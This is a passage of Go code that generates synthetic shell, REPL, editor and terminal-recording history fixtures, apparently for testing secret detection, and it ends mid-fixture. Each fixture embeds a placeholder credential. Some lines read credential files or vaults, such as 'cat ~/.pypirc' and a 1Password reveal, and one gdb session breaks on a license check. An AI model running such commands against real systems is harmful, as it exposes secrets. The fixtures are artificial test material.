CREATE USER MAPPING FOR reporting SERVER billing_src OPTIONS (user 'fdw_reader', password '«a»');
IMPORT FOREIGN SCHEMA public LIMIT TO (invoices, payments) FROM SERVER billing_src INTO billing;
`, V{"a": g.pwStrong()}, "billing-db.internal", "fdw_reader")

	g.shellhistAdd("shellhist/sqlite-history-config-table", `
.tables
.schema config
select * from config;
insert into config(key, value) values('slack_bot_token', '«a»');
update config set value='«b»' where key='github_webhook_secret';
.quit
`, V{"a": g.xoxb(), "b": g.hex(40)}, ".schema config")

	g.shellhistAdd("shellhist/sqlcipher-history-pragma-key", shellhistLibedit(
		".open notes.db",
		"PRAGMA key = '«a»';",
		"PRAGMA cipher_version;",
		"select count(*) from notes;",
	), V{"a": g.pwStrong()}, `PRAGMA\040cipher_version;`)

	g.shellhistAdd("shellhist/rediscli-history-old-auth", `
$ cat /root/.rediscli_history
info replication
config set requirepass «a»
auth «a»
config set masterauth «a»
config rewrite
dbsize
`, V{"a": g.an(32)}, "info replication", "config rewrite")

	g.shellhistAdd("shellhist/rediscli-history-hset-token", `
keys integration:*
hgetall integration:42
hset integration:42 access_token «a» refresh_token «b»
hget integration:42 access_token
ttl session:«_s»
`, V{"a": g.ya29(), "b": g.gRefresh(), "_s": g.hex(32)}, "hgetall integration:42")

	g.shellhistAdd("shellhist/mongosh-repl-history-newest-first", `
$ head -5 ~/.mongodb/mongosh/mongosh_repl_history
db.webhooks.find({provider: "stripe"}, {secret: 0})
db.webhooks.updateOne({provider: "stripe"}, {$set: {secret: "«a»"}})
db.webhooks.find({provider: "stripe"})
use payments
show dbs
`, V{"a": g.whsec()}, "use payments", `{provider: "stripe"}, {secret: 0}`)

	g.shellhistAdd("shellhist/mongo-dbshell-legacy", `
$ cat ~/.dbshell
show dbs
use admin
db.system.users.find().pretty()
use app
db.settings.insert({_id: "mailgun", domain: "mg.example.org", apiKey: "«a»"})
db.settings.find()
exit
`, V{"a": g.mailgun()}, "mg.example.org", "db.system.users.find().pretty()")

	g.shellhistAdd("shellhist/pgcli-history-prompt-toolkit", `

# 2024-04-08 16:21:03.118243
+\dt

# 2024-04-08 16:21:40.571902
+SELECT id, provider, created_at FROM api_credentials ORDER BY id DESC LIMIT 5

# 2024-04-08 16:23:12.009411
+UPDATE api_credentials
+SET secret = '«a»'
+WHERE provider = 'mapbox'

# 2024-04-08 16:23:30.440120
+\q
`, V{"a": g.mapboxSK()}, "# 2024-04-08 16:23:12.009411", "api_credentials")

	g.shellhistAdd("shellhist/litecli-history", `

# 2024-06-02 11:02:19.301144
+.tables

# 2024-06-02 11:03:55.812731
+insert into accounts(name, imap_host, imap_user, imap_pass) values ('work', 'imap.fastmail.com', 'jo@fastmail.com', '«a»')
`, V{"a": g.s(alLowNum, 16)}, "imap.fastmail.com", "jo@fastmail.com")

	g.shellhistAdd("shellhist/clickhouse-client-history", `
### 2024-05-14 08:41:12.552
SHOW TABLES FROM analytics
### 2024-05-14 08:44:09.120
INSERT INTO analytics.events_raw SELECT * FROM s3('https://acme-events.s3.eu-west-1.amazonaws.com/2024/05/13/*.parquet', '«a»', '«b»', 'Parquet')
### 2024-05-14 08:49:37.004
SELECT count() FROM analytics.events_raw WHERE toDate(ts) = '2024-05-13'
`, V{"a": g.awsID(), "b": g.awsSecret()}, "analytics.events_raw", "https://acme-events.s3.eu-west-1.amazonaws.com/2024/05/13/*.parquet")

	g.shellhistAdd("shellhist/cqlsh-history", `
$ cat ~/.cassandra/cqlsh_history
DESCRIBE KEYSPACES;
CREATE ROLE ingest WITH PASSWORD = '«a»' AND LOGIN = true;
GRANT MODIFY ON KEYSPACE telemetry TO ingest;
LIST ROLES;
`, V{"a": g.pwStrong()}, "GRANT MODIFY ON KEYSPACE telemetry TO ingest;")

	g.shellhistAdd("shellhist/influx-history-v1", `
show databases
use telegraf
CREATE USER grafana WITH PASSWORD '«a»'
GRANT READ ON telegraf TO grafana
show users
`, V{"a": g.pw()}, "GRANT READ ON telegraf TO grafana")

	g.shellhistAdd("shellhist/duckdb-history-create-secret", `
INSTALL httpfs;
LOAD httpfs;
CREATE SECRET s3_lake (TYPE S3, KEY_ID '«a»', SECRET '«b»', REGION 'eu-central-1');
SELECT count(*) FROM read_parquet('s3://acme-lake/events/dt=2024-06-*/*.parquet');
.exit
`, V{"a": g.awsID(), "b": g.awsSecret()}, "s3://acme-lake/events/dt=2024-06-*/*.parquet")

	g.shellhistAdd("shellhist/usql-history", `
\c pg://reader:«a»@analytics-db:5432/metrics
\d
select now();
\c my://root:«b»@localhost/wordpress
`, V{"a": g.pwURL(), "b": g.pwURL()}, "analytics-db:5432/metrics")

	g.shellhistAdd("shellhist/sqlplus-rlwrap-history", `
$ tail -5 ~/.sqlplus_history
select username, account_status from dba_users where username like 'APP%';
alter user app_batch identified by "«a»" account unlock;
select sysdate from dual;
exit
`, V{"a": g.pw()}, "account_status from dba_users")
}

func (g *G) shellhistREPLs() {
	g.shellhistAdd("shellhist/node-repl-history", `
$ head -6 ~/.node_repl_history
await client.messages.create({ model: 'claude-3-5-sonnet-latest', max_tokens: 64, messages: [{ role: 'user', content: 'hi' }] })
const client = new Anthropic({ apiKey: '«a»' })
const Anthropic = require('@anthropic-ai/sdk')
.editor
process.version
`, V{"a": g.anthropic()}, "@anthropic-ai/sdk", "claude-3-5-sonnet-latest")

	g.shellhistAdd("shellhist/node-repl-history-stripe", `
stripe.customers.list({ limit: 3 }).then(r => console.log(r.data.map(c => c.email)))
const stripe = require('stripe')('«a»')
require.resolve('stripe')
`, V{"a": g.rkLive()}, "require.resolve('stripe')")

	g.shellhistAdd("shellhist/python-history", `
$ tail -8 ~/.python_history
import boto3
s = boto3.Session(aws_access_key_id="«a»", aws_secret_access_key="«b»", region_name="eu-west-1")
s.client("sts").get_caller_identity()
s.client("s3").list_buckets()["Buckets"][:3]
exit()
`, V{"a": g.awsID(), "b": g.awsSecret()}, `region_name="eu-west-1"`)

	g.shellhistAdd("shellhist/python-history-requests", `
import requests
r = requests.get("https://api.linear.app/graphql", headers={"Authorization": "«a»"}, json={"query": "{ viewer { id name } }"})
r.status_code
r.json()
`, V{"a": g.linear()}, "https://api.linear.app/graphql")

	g.shellhistAdd("shellhist/ipython-history-g", `
In [7]: %history -g openai
  3/1: import openai
  3/2: openai.api_key = "«a»"
  3/4: openai.models.list()
 12/5: client = OpenAI(api_key="«b»")
 12/6: client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "hello"}])
`, V{"a": g.openaiOld(), "b": g.openai()}, `model="gpt-4o"`, "%history -g openai")

	g.shellhistAdd("shellhist/ipython-history-n", `
In [22]: %history -n 1-6
   1: import psycopg2
   2: conn = psycopg2.connect(host="warehouse.internal", dbname="dw", user="analyst", password="«a»")
   3: cur = conn.cursor()
   4: cur.execute("select count(*) from fact_orders")
   5: cur.fetchone()
   6: %history -n 1-6
`, V{"a": g.pw()}, `host="warehouse.internal"`, "fact_orders")

	g.shellhistAdd("shellhist/ipython-sqlite-dump", `
$ sqlite3 ~/.ipython/profile_default/history.sqlite "select session, line, source from history order by rowid desc limit 4"
58|4|df.head()
58|3|df = pd.read_sql("select * from signups", engine)
58|2|engine = create_engine("snowflake://etl_user:«a»@acme-xy12345/ANALYTICS/PUBLIC?warehouse=WH_XS")
58|1|from sqlalchemy import create_engine
`, V{"a": g.pwURL()}, "acme-xy12345/ANALYTICS/PUBLIC?warehouse=WH_XS")

	g.shellhistAdd("shellhist/irb-history", `
$ cat ~/.irb_history
require "octokit"
c = Octokit::Client.new(access_token: "«a»")
c.user.login
c.repos("acme").map(&:full_name).first(5)
exit
`, V{"a": g.ghp()}, `c.repos("acme").map(&:full_name).first(5)`)

	g.shellhistAdd("shellhist/pry-history-rails-console", `
User.where(admin: true).pluck(:email)
Rails.application.credentials.dig(:aws, :access_key_id)
ENV["SENDGRID_API_KEY"] = "«a»"
UserMailer.welcome(User.first).deliver_now
`, V{"a": g.sendgrid()}, "UserMailer.welcome(User.first).deliver_now")

	g.shellhistAdd("shellhist/psysh-history-tinker", `
$ cat ~/.config/psysh/psysh_history
App\Models\User::count()
config(['services.postmark.token' => '«a»'])
Mail::raw('test', fn ($m) => $m->to('ops@fernhill.io'))
`, V{"a": g.uuid()}, "services.postmark.token", "ops@fernhill.io")

	g.shellhistAdd("shellhist/php-interactive-history", `
$ cat ~/.php_history
_HiStOrY_V2_
$pdo\040=\040new\040PDO('mysql:host=127.0.0.1;dbname=shop',\040'shop',\040'«a»');
var_dump($pdo->query('select\0401')->fetchAll());
`, V{"a": g.pwURL()}, `mysql:host=127.0.0.1;dbname=shop`)

	g.shellhistAdd("shellhist/julia-repl-history", `
# time: 2024-03-19 14:02:11 CET
# mode: julia
	using HTTP, JSON3
# time: 2024-03-19 14:02:49 CET
# mode: julia
	ENV["WANDB_API_KEY"] = "«a»"
# time: 2024-03-19 14:03:30 CET
# mode: pkg
	add Wandb
# time: 2024-03-19 14:05:02 CET
# mode: shell
	ls data/
`, V{"a": g.hex(40)}, "# mode: pkg", "using HTTP, JSON3")

	g.shellhistAdd("shellhist/rhistory", `
library(DBI)
con <- dbConnect(RPostgres::Postgres(), host = "pg-analytics.lab.internal", dbname = "trials", user = "rstudio", password = "«a»")
dbListTables(con)
Sys.setenv(OPENAI_API_KEY = "«b»")
q()
`, V{"a": g.pw(), "b": g.openai()}, "pg-analytics.lab.internal", "dbListTables(con)")

	g.shellhistAdd("shellhist/ghci-history", `
:set -XOverloadedStrings
import Network.HTTP.Simple
let req = setRequestHeader "X-Api-Key" ["«a»"] "https://api.airtable.com/v0/meta/whoami"
httpLBS req
:q
`, V{"a": g.airtable()}, "https://api.airtable.com/v0/meta/whoami")

	g.shellhistAdd("shellhist/deno-repl-history", `
$ cat ~/.cache/deno/deno_history.txt
const kv = await Deno.openKv("https://api.deno.com/databases/«_db»/connect")
Deno.env.set("DENO_KV_ACCESS_TOKEN", "«a»")
await kv.get(["users", "alice"])
close()
`, V{"_db": g.uuid(), "a": "ddp_" + g.an(36)}, `await kv.get(["users", "alice"])`)

	g.shellhistAdd("shellhist/ts-node-repl-history", `
await prisma.user.count()
const prisma = new PrismaClient({ datasources: { db: { url: "postgresql://postgres.«_ref»:«a»@aws-0-eu-central-1.pooler.supabase.com:6543/postgres" } } })
import { PrismaClient } from "@prisma/client"
`, V{"_ref": g.s(alLower, 20), "a": g.pwURL()}, "aws-0-eu-central-1.pooler.supabase.com:6543")

	g.shellhistAdd("shellhist/gdb-history", `
$ cat ~/.gdb_history
file ./bin/licensed
set args --license-key «a» --offline
break license_check
run
bt
p *ctx
quit
`, V{"a": strings.ToUpper(g.hex(8) + "-" + g.hex(8) + "-" + g.hex(8) + "-" + g.hex(8))}, "break license_check")

	g.shellhistAdd("shellhist/lldb-widehistory", shellhistLibedit(
		"target create ./build/Debug/SyncAgent",
		"settings set target.env-vars SYNC_TOKEN=«a»",
		"b SyncClient::authenticate",
		"run",
		"frame variable",
	), V{"a": g.b64u(40)}, `SyncClient::authenticate`)

	g.shellhistAdd("shellhist/scala-sbt-console-history", `
$ tail -3 ~/.sbt/.history
set ThisBuild / credentials += Credentials("Sonatype Nexus Repository Manager", "nexus.acme.io", "ci-publisher", "«a»")
publish
`, V{"a": g.pwStrong()}, "nexus.acme.io", "Sonatype Nexus Repository Manager")
}

func (g *G) shellhistEditors() {
	g.shellhistAdd("shellhist/lesshst-search-token", `
.less-history-file:
.search
"ERROR
"status=500
"«a»
"refresh
.shell
"grep -c 401 /var/log/nginx/access.log
.mark
m a 1 4182 /var/log/app/api.log
`, V{"a": g.skLive()}, "/var/log/app/api.log", "grep -c 401 /var/log/nginx/access.log")

	g.shellhistAdd("shellhist/lesshst-shell-command", `
.less-history-file:
.search
"Authorization
"Bearer
.shell
"curl -s -H 'PRIVATE-TOKEN: «a»' https://gitlab.acme.io/api/v4/projects/88/jobs/412903/trace | less
`, V{"a": g.glpat()}, "https://gitlab.acme.io/api/v4/projects/88/jobs/412903/trace")

	g.shellhistAdd("shellhist/viminfo-cmdline-substitute", `
# This viminfo file was generated by Vim 9.1.
# You may edit it if you're careful!

# Viminfo version
|1,4

# Value of 'encoding' when this file was written
*encoding=utf-8


# hlsearch on (H) or off (h):
~h
# Last Substitute Search Pattern:
~MSle0&REPLACE_ME

# Last Substitute String:
$«a»

# Command Line History (newest to oldest):
:wq
|2,0,1712840512,,"wq"
:%s/REPLACE_ME/«a»/g
|2,0,1712840490,,"%s/REPLACE_ME/«a»/g"
:set paste
|2,0,1712840401,,"set paste"

# Search String History (newest to oldest):
? REPLACE_ME
|2,1,1712840490,,"REPLACE_ME"
`, V{"a": g.doppler()}, `|2,0,1712840401,,"set paste"`)

	g.shellhistAdd("shellhist/viminfo-registers-yank", `
# Registers:
""0	LINE	0
	DATABASE_URL=postgres://app:«a»@db.internal:5432/app
|3,1,0,1,1,0,1713011200,"DATABASE_URL=postgres://app:«a»@db.internal:5432/app"
"1	LINE	0
	REDIS_URL=redis://:«b»@cache.internal:6379/0
|3,0,1,1,1,0,1713011188,"REDIS_URL=redis://:«b»@cache.internal:6379/0"
"2	LINE	0
	NODE_ENV=production
|3,0,2,1,1,0,1713011150,"NODE_ENV=production"
"-	CHAR	0
	=
|3,0,36,0,1,0,1713011201,"="

# File marks:
'0  3  0  /srv/app/.env
|4,48,3,0,1713011205,"/srv/app/.env"
`, V{"a": g.pwURL(), "b": g.an(32)}, "/srv/app/.env", "NODE_ENV=production")

	g.shellhistAdd("shellhist/viminfo-search-history-key", `
# Search String History (newest to oldest):
?/«a»
|2,1,1715232001,47,"«a»"
?/api_key
|2,1,1715231940,47,"api_key"
?/TODO
|2,1,1715230011,47,"TODO"

# Expression History (newest to oldest):

# Input Line History (newest to oldest):

# Debug Line History (newest to oldest):
`, V{"a": g.googleKey()}, `|2,1,1715230011,47,"TODO"`)

	g.shellhistAdd("shellhist/viminfo-cmdline-shell-bang", `
# Command Line History (newest to oldest):
:!curl -s -u admin:«a» http://localhost:15672/api/overview | python3 -m json.tool
|2,0,1716400010,,"!curl -s -u admin:«a» http://localhost:15672/api/overview | python3 -m json.tool"
:r !date
|2,0,1716399950,,"r !date"
:w
|2,0,1716399901,,"w"
`, V{"a": g.pw()}, "http://localhost:15672/api/overview")

	g.shellhistAdd("shellhist/neovim-history-cmd", `
:history cmd
      #  cmd history
     14  Lazy sync
     15  e ~/.config/nvim/lua/plugins/ai.lua
     16  let $CODEIUM_API_KEY = '«a»'
     17  Codeium Auth
>    18  history cmd
`, V{"a": g.uuid()}, "~/.config/nvim/lua/plugins/ai.lua")

	g.shellhistAdd("shellhist/nano-search-history", `
$ cat ~/.local/share/nano/search_history
listen_addresses
password
«a»
max_connections
`, V{"a": g.pwStrong()}, "listen_addresses", "max_connections")

	g.shellhistAdd("shellhist/emacs-savehist", `
;; -*- mode: emacs-lisp; coding: utf-8-unix -*-
;; Minibuffer history file, automatically generated by ‘savehist’.

(setq savehist-minibuffer-history-variables '(shell-command-history extended-command-history file-name-history))
(setq shell-command-history '("curl -s -H \"X-Api-Key: «a»\" https://api.pagerduty.com/incidents?statuses[]=triggered" "make test" "git log --oneline -n 20"))
(setq extended-command-history '("magit-status" "eglot" "compile"))
(setq file-name-history '("~/org/oncall.org" "~/src/pd-tools/main.go"))
`, V{"a": "u+" + g.b64u(18)}, "~/org/oncall.org", `"magit-status" "eglot" "compile"`)
}

func (g *G) shellhistTools() {
	g.shellhistAdd("shellhist/atuin-history-list-format", `
$ atuin history list --format "{time}\t{duration}\t{exit}\t{command}" | tail -4
2024-05-20 09:12:44	214ms	0	git fetch --all --prune
2024-05-20 09:13:02	1s	0	export PULUMI_ACCESS_TOKEN=«a»
2024-05-20 09:13:40	48s	0	pulumi up --stack acme/platform/prod --yes
2024-05-20 09:15:01	3ms	0	unset PULUMI_ACCESS_TOKEN
`, V{"a": g.pulumi()}, "--stack acme/platform/prod")

	g.shellhistAdd("shellhist/atuin-search-cmd-only", `
$ atuin search --cmd-only stripe
stripe login
stripe listen --forward-to localhost:4242/webhook
stripe listen --api-key «a» --forward-to localhost:4242/webhook
stripe trigger payment_intent.succeeded
`, V{"a": g.skTest()}, "stripe trigger payment_intent.succeeded")

	g.shellhistAdd("shellhist/atuin-sqlite-dump", `
$ sqlite3 -separator ' | ' ~/.local/share/atuin/history.db "select id, timestamp, exit, cwd, hostname, command from history order by timestamp desc limit 3"
«_i1» | 1716543210123456789 | 0 | /home/lea/src/cdn | lea-thinkpad:lea | bunny --help
«_i2» | 1716543190987654321 | 1 | /home/lea/src/cdn | lea-thinkpad:lea | curl -X POST https://api.bunny.net/purge?url=https://cdn.lea.dev/app.js -H "AccessKey: «a»"
«_i3» | 1716543100456123789 | 0 | /home/lea/src/cdn | lea-thinkpad:lea | git pull
`, V{"_i1": g.hex(32), "_i2": g.hex(32), "a": g.uuid() + "-" + g.uuid(), "_i3": g.hex(32)}, "lea-thinkpad:lea", "https://cdn.lea.dev/app.js")

	g.shellhistAdd("shellhist/atuin-history-list-human", `
$ atuin history list --human | grep -i heroku
2024-02-11 16:41:55	heroku login -i	12s
2024-02-11 16:42:30	heroku config:set SECRET_KEY_BASE=«a» -a pantry-api	2s
2024-02-11 16:43:01	heroku ps:scale web=2 -a pantry-api	1s
`, V{"a": g.hex(128)}, "heroku ps:scale web=2 -a pantry-api")

	g.shellhistAdd("shellhist/mcfly-dump-json", `
$ mcfly dump --since '2024-06-01' --format json | jq '.[-3:]'
[
  {
    "cmd": "gcloud config set project acme-ml-prod",
    "when_run": "2024-06-12T10:01:17+02:00"
  },
  {
    "cmd": "curl -H 'x-goog-api-key: «a»' 'https://generativelanguage.googleapis.com/v1beta/models?pageSize=5'",
    "when_run": "2024-06-12T10:03:49+02:00"
  },
  {
    "cmd": "git stash pop",
    "when_run": "2024-06-12T10:07:02+02:00"
  }
]
`, V{"a": g.googleKey()}, "acme-ml-prod", "https://generativelanguage.googleapis.com/v1beta/models?pageSize=5")

	g.shellhistAdd("shellhist/mcfly-sqlite-commands", `
$ sqlite3 ~/.local/share/mcfly/history.db "select id, when_run, exit_code, dir, cmd from commands where cmd like '%token%' order by id desc limit 2"
«=i1»|1717411122|0|/Users/kai/src/site|netlify deploy --prod --auth «a»
«=i2»|1717410933|0|/Users/kai/src/site|netlify status
`, V{"=i1": g.digits(5), "a": g.netlify(), "=i2": g.digits(5)}, "/Users/kai/src/site")

	g.shellhistAdd("shellhist/hishtory-query-table", `
$ hishtory query vercel
Hostname       CWD             Timestamp                Runtime  Exit Code  Command
mbp-ana        ~/src/landing   Jun 03 2024 14:21:07 CEST  3s       0          vercel --prod
mbp-ana        ~/src/landing   Jun 03 2024 14:19:40 CEST  1.2s     0          vercel env add RESEND_API_KEY production <<< «a»
mbp-ana        ~/src/landing   Jun 03 2024 14:18:02 CEST  6s       1          vercel --token «b» whoami
`, V{"a": "re_" + g.an(8) + "_" + g.an(24), "b": g.vercel()}, "~/src/landing", "mbp-ana")

	g.shellhistAdd("shellhist/zsh-histdb-output", `
$ histdb --limit 3 minio
time   ses  dir       cmd
10:02  412  ~/lab     mc alias set lab http://10.1.1.20:9000 minioadmin «a»
10:04  412  ~/lab     mc mb lab/backups
10:05  412  ~/lab     mc cp -r ./dumps lab/backups/
`, V{"a": g.pwStrong()}, "http://10.1.1.20:9000 minioadmin", "lab/backups/")

	g.shellhistAdd("shellhist/nushell-history-table", `
> history | last 3
╭───┬─────────────────────────────────────────────────────────────────────────────────╮
│ # │                                     command                                     │
├───┼─────────────────────────────────────────────────────────────────────────────────┤
│ 0 │ $env.CIRCLECI_TOKEN = "«a»"                                                    │
│ 1 │ http get https://circleci.com/api/v2/me -H [Circle-Token $env.CIRCLECI_TOKEN]   │
│ 2 │ history | last 3                                                                │
╰───┴─────────────────────────────────────────────────────────────────────────────────╯
`, V{"a": "CCIPAT_" + g.an(22) + "_" + g.hex(40)}, "https://circleci.com/api/v2/me")

	g.shellhistAdd("shellhist/nushell-history-txt", `
$ open ~/.config/nushell/history.txt | lines | last 3
ls | where size > 10mb
$env.NGROK_AUTHTOKEN = "«a»"
ngrok http 3000
`, V{"a": g.ngrok()}, "ls | where size > 10mb")

	g.shellhistAdd("shellhist/xonsh-json-history", `
{"locked": false,
 "ts": [1717590000.412, 1717590230.117],
 "sessionid": "«_s»",
 "data": {"cmds": [
   {"inp": "cd ~/bots\n", "rtn": 0, "ts": [1717590002.1, 1717590002.2]},
   {"inp": "$DISCORD_TOKEN = '«a»'\n", "rtn": 0, "ts": [1717590031.7, 1717590031.7]},
   {"inp": "python bot.py\n", "rtn": 1, "ts": [1717590040.0, 1717590201.9]}
 ]}}
`, V{"_s": g.uuid(), "a": g.discordBot()}, "python bot.py")
}

func (g *G) shellhistRecordings() {
	g.shellhistAdd("shellhist/asciinema-v2-paste-export", `
{"version": 2, "width": 132, "height": 38, "timestamp": 1712916432, "env": {"SHELL": "/bin/zsh", "TERM": "xterm-256color"}}
[0.148831, "o", "\u001b[1m\u001b[7m%\u001b[27m\u001b[1m\u001b[0m                                                                                                                                   \r \r"]
[0.152077, "o", "\u001b]2;nina@mbp:~/src/rag-demo\u0007\u001b]1;~/src/rag-demo\u0007"]
[0.171209, "o", "\u001b[01;32m➜  \u001b[36mrag-demo\u001b[00m \u001b[K"]
[2.406114, "o", "export PINECONE_API_KEY=«a»"]
[3.117882, "o", "\r\r\n"]
[3.121407, "o", "\u001b[01;32m➜  \u001b[36mrag-demo\u001b[00m \u001b[K"]
[4.884013, "o", "p"]
[5.010222, "o", "y"]
[5.127341, "o", "thon ingest.py"]
[5.530118, "o", "\r\r\n"]
[6.902551, "o", "Upserted 1204 vectors into index \u001b[1mdocs-v2\u001b[0m\r\n"]
`, V{"a": g.pinecone()}, "Upserted 1204 vectors into index", "nina@mbp:~/src/rag-demo")

	g.shellhistAdd("shellhist/asciinema-v2-stdin-password", `
{"version": 2, "width": 100, "height": 30, "timestamp": 1713350000, "idle_time_limit": 2.0, "env": {"SHELL": "/bin/bash", "TERM": "screen-256color"}, "title": "vpn setup"}
[0.31, "o", "$ "]
[1.92, "i", "sudo openconnect vpn.corp.example --user=tmeyer\r"]
[1.95, "o", "sudo openconnect vpn.corp.example --user=tmeyer\r\n"]
[2.40, "o", "[sudo] password for tmeyer: "]
[4.87, "i", "«a»\r"]
[5.02, "o", "\r\n"]
[5.88, "o", "POST https://vpn.corp.example/\r\nConnected to 198.51.100.23:443\r\nPlease enter your username and password.\r\nPassword: "]
[8.11, "i", "«b»\r"]
[8.90, "o", "\r\nGot CONNECT response: HTTP/1.1 200 OK\r\nCSTP connected. DPD 30, Keepalive 20\r\n"]
`, V{"a": g.pw(), "b": g.pw()}, "vpn.corp.example --user=tmeyer", "CSTP connected. DPD 30, Keepalive 20")

	g.shellhistAdd("shellhist/asciinema-v3-env-output", `
{"version": 3, "term": {"cols": 120, "rows": 34, "type": "xterm-256color"}, "timestamp": 1719834000, "env": {"SHELL": "/usr/bin/fish"}}
[0.204, "o", "\u001b[?2004h\u001b[32mmarc\u001b[0m@\u001b[33mdevbox\u001b[0m \u001b[32m~/infra\u001b[0m> "]
[1.512, "o", "env | grep -i hcloud"]
[0.388, "o", "\r\n\u001b[?2004l"]
[0.012, "o", "HCLOUD_TOKEN=«a»\r\nHCLOUD_CONTEXT=prod\r\n"]
[0.221, "o", "\u001b[?2004h\u001b[32mmarc\u001b[0m@\u001b[33mdevbox\u001b[0m \u001b[32m~/infra\u001b[0m> "]
[2.004, "x", "0"]
`, V{"a": g.an(64)}, "HCLOUD_CONTEXT=prod")

	g.shellhistAdd("shellhist/asciinema-v2-docker-run", `
{"version": 2, "width": 160, "height": 44, "timestamp": 1714002211, "env": {"SHELL": "/bin/bash", "TERM": "xterm-256color"}}
[0.09, "o", "\u001b]0;ci@runner-7: ~/app\u0007\u001b[01;32mci@runner-7\u001b[00m:\u001b[01;34m~/app\u001b[00m$ "]
[1.73, "o", "docker run --rm -e DD_API_KEY=«a» -e DD_SITE=datadoghq.eu datadog/agent:7 agent status | head -5"]
[2.10, "o", "\r\n"]
[7.45, "o", "Unable to find image 'datadog/agent:7' locally\r\n7: Pulling from datadog/agent\r\n"]
[19.2, "o", "Digest: «_d»\r\nStatus: Downloaded newer image for datadog/agent:7\r\n"]
`, V{"a": g.hex(32), "_d": g.shellhistDigest()}, "Status: Downloaded newer image for datadog/agent:7")

	g.shellhistAdd("shellhist/script-typescript-control-chars", `
Script started on 2024-04-12 10:22:31+02:00 [TERM="xterm-256color" TTY="/dev/pts/2" COLUMNS="157" LINES="41"]
␛]0;ops@bastion-1: ~␇␛[?2004h␛[01;32mops@bastion-1␛[00m:␛[01;34m~␛[00m$ export ARGOCD_AUTH_TOKEN=«a»␍
␛[?2004l␍␛]0;ops@bastion-1: ~␇␛[?2004h␛[01;32mops@bastion-1␛[00m:␛[01;34m~␛[00m$ argocd app list --server argocd.ops.acme.io --grpc-web␍
␛[?2004l␍NAME                 CLUSTER                         NAMESPACE  PROJECT  STATUS  HEALTH   SYNCPOLICY␍
argocd/checkout      https://kubernetes.default.svc  checkout   default  Synced  Healthy  Auto-Prune␍
␛]0;ops@bastion-1: ~␇␛[?2004h␛[01;32mops@bastion-1␛[00m:␛[01;34m~␛[00m$ exit␍
␛[?2004l␍exit␍

Script done on 2024-04-12 10:24:02+02:00 [COMMAND_EXIT_CODE="0"]
`, V{"a": g.jwt("HS256", `{"iss":"argocd","sub":"ci:apiKey","nbf":1712910000,"iat":1712910000,"jti":"`+g.uuid()+`"}`)}, "argocd.ops.acme.io --grpc-web", "argocd/checkout")

	g.shellhistAdd("shellhist/script-typescript-backspaces", `
Script started on 2024-05-03 17:01:11+00:00 [TERM="xterm" TTY="/dev/pts/0" COLUMNS="120" LINES="30"]
root@db-01:~# mysql -u root -p«a»␍
mysql: [Warning] Using a password on the command line interface can be insecure.␍
Welcome to the MySQL monitor.  Commands end with ; or \g.␍
mysql> show processlist;␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈␈SHOW FULL PROCESSLIST;␍
+----+-----------------+-----------+------+---------+------+------------------------+-----------------------+␍
| Id | User            | Host      | db   | Command | Time | State                  | Info                  |␍
+----+-----------------+-----------+------+---------+------+------------------------+-----------------------+␍
|  5 | event_scheduler | localhost | NULL | Daemon  | 8812 | Waiting on empty queue | NULL                  |␍
+----+-----------------+-----------+------+---------+------+------------------------+-----------------------+␍
mysql> exit␍
Bye␍
root@db-01:~# exit␍

Script done on 2024-05-03 17:02:40+00:00 [COMMAND_EXIT_CODE="0"]
`, V{"a": g.pw()}, "Using a password on the command line interface can be insecure.", "root@db-01")

	g.shellhistAdd("shellhist/script-log-in-input", `
$ script --log-in /tmp/keys.in --log-out /tmp/keys.out -q
$ cat /tmp/keys.in
Script started on 2024-06-18 08:40:12+02:00 [<not executed on terminal>]
ssh-add ~/.ssh/id_ed25519␍«a»␍git push origin main␍exit␍
Script done on 2024-06-18 08:41:55+02:00 [COMMAND_EXIT_CODE="0"]
`, V{"a": g.pwStrong()}, "ssh-add ~/.ssh/id_ed25519", "git push origin main")

	g.shellhistAdd("shellhist/tmux-capture-pane-plain", `
$ tmux capture-pane -p -S -30 -t deploy:1
deploy@ci-01:~/releases$ ./release.sh 2.14.0
==> tagging v2.14.0
==> uploading to PyPI
Uploading distributions to https://upload.pypi.org/legacy/
Uploading acme_client-2.14.0-py3-none-any.whl
100% ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━ 41.2/41.2 kB • 00:00 • 8.1 MB/s
deploy@ci-01:~/releases$ cat ~/.pypirc
[pypi]
username = __token__
password = «a»
deploy@ci-01:~/releases$
`, V{"a": g.pypiTok()}, "acme_client-2.14.0-py3-none-any.whl", "https://upload.pypi.org/legacy/")

	g.shellhistAdd("shellhist/tmux-capture-pane-escapes", `
$ tmux capture-pane -e -p -t 0 | tail -4
␛[38;5;39m~/src/api␛[39m ␛[38;5;242mmain␛[39m
␛[38;5;76m❯␛[39m curl -su "api:«a»" https://api.mailgun.net/v3/domains | jq '.items[].name'
"mg.hollow.io"
"sandbox42.mailgun.org"
`, V{"a": g.mailgun()}, `"mg.hollow.io"`, "https://api.mailgun.net/v3/domains")

	g.shellhistAdd("shellhist/tmux-capture-pane-joined", `
$ tmux capture-pane -pJ -S - > ~/pane-dump.txt && grep -n 'login' ~/pane-dump.txt
212:ubuntu@gpu-node-3:~$ huggingface-cli login --token «a» --add-to-git-credential
213:Token is valid (permission: write).
214:Your token has been saved in your configured git credential helpers (store).
`, V{"a": g.hfTok()}, "ubuntu@gpu-node-3", "Token is valid (permission: write).")

	g.shellhistAdd("shellhist/screenlog-0", `
$ cat screenlog.0
␛[?1049h␛[4l␛[?1h␛=␛[0m␛(B␛[1;41r␛[H␛[2Jpi@octopi:~ $ sudo nmcli dev wifi connect "Lab-5G" password "«a»"␍
Device 'wlan0' successfully activated with '«_u»'.␍
pi@octopi:~ $ ip -4 addr show wlan0 | grep inet␍
    inet 192.168.50.77/24 brd 192.168.50.255 scope global dynamic noprefixroute wlan0␍
`, V{"a": g.pw(), "_u": g.uuid()}, `"Lab-5G"`, "192.168.50.77/24")

	g.shellhistAdd("shellhist/kitty-get-text-scrollback", `
$ kitty @ get-text --extent all | tail -6
sam@arch ~/src/shop (main) $ php artisan tinker
Psy Shell v0.12.3 (PHP 8.3.6 — cli) by Justin Hileman
> config('services.stripe.secret')
= "«a»"

> exit
`, V{"a": g.skLive()}, "Psy Shell v0.12.3", "config('services.stripe.secret')")

	g.shellhistAdd("shellhist/iterm2-saved-contents", `
Last login: Tue Jun 25 08:12:03 on ttys004
dana@MacBook-Pro ~ % op item get "AWS prod root" --fields label=password --reveal
